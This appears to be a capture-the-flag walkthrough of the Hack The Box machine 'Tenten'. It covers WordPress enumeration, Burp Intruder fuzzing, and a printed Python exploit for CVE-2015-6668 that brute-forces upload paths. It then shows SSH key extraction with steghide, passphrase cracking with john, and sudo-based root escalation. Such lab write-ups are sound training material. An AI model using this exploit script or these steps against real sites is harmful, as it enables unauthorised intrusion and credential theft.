Let’s get started!:)

Level: Intermediate


This is the initial step in order to scan the open services in the machine.

COMMAND: nmap -sC -sV -O -oA tenten


From the given above image, you can observe that we found port 22,80 are open in the machine.

Knowing port 80 is open inmachine we preferred to explore IP in the browser


Above image indicates that its a wordpress site. Let’s enumerate it with wpscan!


wpscan –url –enumerate t –enumerate t –enumerate u

With the help of wpscan we can able to found the user of the site name takis!

Now let’s enumerate the site web pages!

Now i clicked on job listing !

After clicking on apply now the page is opened as below!

As we can see there is an id and we will try to change it and set as 10.

As we can the job title has been changed and try to open the page with id 11.

So as to avoid wastage of time. We have simply captured the request of the page using burpsuite and sent to intruder for fuzzing.

Intercept the request and send it to intruder.

Set the attack type as sniper and set payload as number from 8 to 20.

Now start the attack and check every page .

As you can see the attack has begun. By selecting payload 13 which made us think there might be something different about this page and there we saw the title of the page which is HackerAccessGranted as you can see below.s we know in WordPress there is directory structure for the uploaded files is recognized by /wp-content/uploads/%year%/%month%/%filename% then I connect HackerAccessGranted with an Image file and at last after so many attempts I execute to use the following URL.

I used [CVE-2015-6668] CV filename disclosure on Job-Manager WP plugin code in order to bruteforce!

import requests

print """
Title: CV filename disclosure on Job-Manager WP Plugin
Author: Evangelos Mourikis
Blog: https://vagmour.eu
Plugin URL: http://www.wp-jobmanager.com
Versions: <=0.7.25
website = raw_input('Enter a vulnerable website: ')
filename = raw_input('Enter a file name: ')

filename2 = filename.replace(" ", "-")

for year in range(2013,2016):
    for i in range(1,13):
        for extension in {'doc','pdf','docx'}:
            URL = website + "/wp-content/uploads/" + str(year) + "/" + "{:02}".format(i) + "/" + filename2 + "." + extension
            req = requests.get(URL)
            if req.status_code==200:
                print "[+] URL of CV found! " + URL

I modified the code and run the script on the target machine!

for yearin range(2017,2018):
for i in range(1,13):
for extension in {'php','html','pdf','png','gif','jpg','jpeg'}:

BOOM! we found the actual url of the file!!

Let’s download it and use steghide tool !

COMMAND: steghide extract -sf HackerAccessGranted.jpg

Asking the password ,Let’s enter without any password!

use cat command to display the key!

COMMAND: cat id_rsa

Use ssh2john.py to convert the private key to bruteforce with john tool

After converting ,use john to crack the password using rockyou.txt wordlist!

BOOM! we got the password . Let’s use it to connect via ssh.

We got ssh !!

Let’s pwn the user flag!!

Privilege escalationNow that we user access we need to elevate our permissions to root. Let’s start with getting system information.

takis@tenten:~$ cat /etc/issue
Ubuntu 16.04.2 LTS \n \l

Escalating to root shows that we have access to a file called “/bin/fuckin.”

We need to find out what in this file.

fuckin seems to be a batch script that contains arguments that we can pass on.

Adding an argument after the file while running it as sudo allows us torun commands as root.

Adding bash to the first argument gives us root shell.

If you like my writeup , Give me Respect on my HTB profile : Exp1o1t9r


Pleaseenter your comment!
Please enter your name here